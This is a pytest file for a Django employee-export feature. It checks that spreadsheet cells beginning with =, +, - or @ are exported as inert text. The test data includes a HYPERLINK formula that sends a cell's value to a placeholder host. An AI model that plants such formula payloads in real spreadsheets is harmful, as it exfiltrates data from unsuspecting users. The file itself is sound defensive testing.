"""The employee export neutralises text a spreadsheet would run as a formula (OWASP)."""

import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from pegawai.models import Pegawai

pytestmark = pytest.mark.django_db


def _export(client, user):
    client.force_login(user)
    resp = client.get(reverse("pegawai:ekspor"))
    assert resp.status_code == 200
    return resp.content


def test_a_name_starting_with_a_formula_sign_is_exported_as_inert_text(client, cast):
    jahat = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
    Pegawai.objects.filter(pk=cast.pegawai.pk).update(nama=jahat, gelar_depan="+1",
                                                      gelar_belakang="@SUM(1)")
    Pegawai.objects.filter(pk=cast.outsider.pk).update(nama="-2+3")

    content = _export(client, cast.u_bkd)

    ws = load_workbook(io.BytesIO(content))["Pegawai"]
    rows = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    row = rows[cast.pegawai.nip]
    assert row[1] == "'" + jahat
    assert (row[2], row[3]) == ("'+1", "'@SUM(1)")
    assert rows[cast.outsider.nip][1] == "'-2+3"
    # No cell of the sheet is a formula: the XML holds no <f> element at all.
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_ordinary_values_keep_their_type_in_the_export(client, cast):
    content = _export(client, cast.u_bkd)
    ws = load_workbook(io.BytesIO(content))["Pegawai"]
    row = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}[cast.pegawai.nip]
    assert isinstance(row[0], str) and len(row[0]) == 18  # NIP stays text, all 18 digits
    assert row[1] == cast.pegawai.nama
    assert row[9] == dt.datetime.combine(cast.pegawai.tmt_jabatan, dt.time())  # a date cell
